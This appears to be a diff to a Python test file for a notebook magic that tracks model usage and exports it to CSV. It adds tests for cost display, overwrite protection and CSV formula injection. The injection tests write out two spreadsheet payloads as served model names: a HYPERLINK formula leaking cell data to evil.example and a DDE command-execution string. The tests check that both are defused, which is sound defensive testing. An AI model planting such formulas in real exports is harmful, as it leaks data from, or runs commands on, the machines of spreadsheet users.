@@ -4,7 +4,9 @@ hostile server of our own)."""
 
 from __future__ import annotations
 
+import csv
 import re
+import socket
 import threading
 from collections.abc import Iterator
 from pathlib import Path
@@ -18,7 +20,7 @@ from routing_magics.emulator import Emulator
 from routing_magics.ledger.export import COLUMNS
 
 from ..helpers import Harness, magic_harness, one_line
-from ..hostile import HostileServer, pricing_down
+from ..hostile import HostileServer, Script, chunk, pricing_down, reply, sse
 
 
 @pytest.fixture
@@ -58,6 +60,20 @@ def test_models_missing_from_the_price_list_show_a_dash(h: Harness) -> None:
     assert "out · cost — · notebook total" in footer(h)
 
 
+def test_an_absurd_price_shows_a_dash_never_inf(h: Harness) -> None:
+    h.emu.pricing = [{"model": "route/kimi-k2.5", "input_per_million": 1e308,
+                      "output_per_million": 1e308}]  # fmt: skip
+    h.ok("%%route route/kimi-k2.5\necho: hi")
+    line = footer(h)
+    assert "out · cost — · notebook total" in line
+    path = h.db.parent / "usage.csv"
+    shown = h.ok(f"%route usage --csv {path}")
+    table = h.ok("%route usage").final_plain()
+    for text in (line, shown.stdout, table, path.read_text()):
+        assert "inf" not in text.lower()
+    assert pd.read_csv(path)["cost_usd"].isna().all()
+
+
 def test_usage_shows_the_cost_column_chart_and_account_caps(h: Harness) -> None:
     h.ok("%%route route/glm-5\necho: one two")
     h.ok("%%route route/mistral-small-2503\necho: three")
@@ -94,6 +110,20 @@ def test_minus_o_binds_a_dataframe_and_csv_writes_the_same_rows(h: Harness) -> N
     assert back["cost_usd"].iloc[0] == pytest.approx(expected)
 
 
+def test_csv_onto_an_existing_file_is_refused_unless_overwrite(h: Harness) -> None:
+    h.ok("%%route route/kimi-k2.5\necho: hello")
+    path = h.db.parent / "notes.csv"
+    path.write_text("the user's own notes\n")
+    message = one_line(h.run(f"%route usage -o frame --csv {path}").error)
+    assert message == (
+        f"--csv {path}: that file exists; add --overwrite to replace it, or choose another path"
+    )
+    assert path.read_text() == "the user's own notes\n" and "frame" not in h.shell.user_ns
+    cell = h.ok(f"%route usage --csv {path} --overwrite")
+    assert "Wrote 1 usage rows" in cell.stdout
+    assert pd.read_csv(path)["model"].tolist() == ["route/kimi-k2.5"]
+
+
 @pytest.mark.parametrize(
     ("line", "message"),
     [
@@ -102,6 +132,7 @@ def test_minus_o_binds_a_dataframe_and_csv_writes_the_same_rows(h: Harness) -> N
         ("%route usage -o In", "-o In: that name belongs to Python or IPython"),
         ("%route usage --weekly", "unknown option --weekly"),
         ("%route usage --reset --today", "drop the other options"),
+        ("%route usage --overwrite", "--overwrite goes with --csv PATH: it lets the file be"),
     ],
 )
 def test_bad_usage_options_are_one_line_errors(h: Harness, line: str, message: str) -> None:
@@ -149,3 +180,45 @@ def test_a_failing_or_hanging_price_list_means_no_cost_and_no_long_wait(
         # A hanging endpoint still holds the request: the cell did not wait for it.
         assert not server.release.is_set()
         assert "No costs" in h.ok("%route usage").final_plain()
+
+
+# --- what a hostile server's names do to a spreadsheet (issue 21) ----------------------------
+
+
+def names_as(model: str, provider: str) -> Script:
+    """Chat answers that say they came from `model` via `provider`; nothing else is served."""
+
+    def script(conn: socket.socket, server: HostileServer) -> None:
+        if not server.requests[-1].startswith(b"POST"):
+            return reply(404, b"Not found", "text/plain")(conn, server)
+        usage = {"prompt_tokens": 3, "completion_tokens": 1, "total_tokens": 4}
+        answer = chunk("hi", "stop", usage=usage) | {"model": model, "provider": provider}
+        return reply(200, sse(answer, "data: [DONE]\n\n"), "text/event-stream")(conn, server)
+
+    return script
+
+
+def csv_rows_after(h: Harness, server: HostileServer) -> list[dict[str, str]]:
+    """One cell answered by `server`, then `%route usage --csv`, read back."""
+    with server:
+        h.ok(f"%config RouteMagics.base_url = '{server.base_url}'")
+        h.ok("%%route route/glm-5\nhello")
+    path = h.db.parent / "usage.csv"
+    h.ok(f"%route usage --csv {path}")
+    with open(path, newline="", encoding="utf-8") as source:
+        return list(csv.DictReader(source))
+
+
+def test_formulas_in_served_names_reach_the_csv_as_text(h: Harness) -> None:
+    model = '=HYPERLINK("http://evil.example/?leak="&B2,"Open")'
+    provider = "=cmd|' /C calc'!A0"
+    (row,) = csv_rows_after(h, HostileServer(names_as(model, provider)))
+    assert (row["model"], row["provider"]) == ("'" + model, "'" + provider)
+
+
+@pytest.mark.parametrize("lead", ["=", "+", "-", "@", "\t", "\r", " ="])
+def test_no_csv_cell_starts_a_formula(h: Harness, lead: str) -> None:
+    (row,) = csv_rows_after(h, HostileServer(names_as(f"{lead}1+2", f"{lead}SUM(A1:A9)")))
+    assert row["model"] == f"'{lead}1+2" and row["provider"] == f"'{lead}SUM(A1:A9)"
+    assert row["notebook"] == h.magics.session.notebook  # ordinary text stays as it was
+    assert row["total_tokens"] == "4"
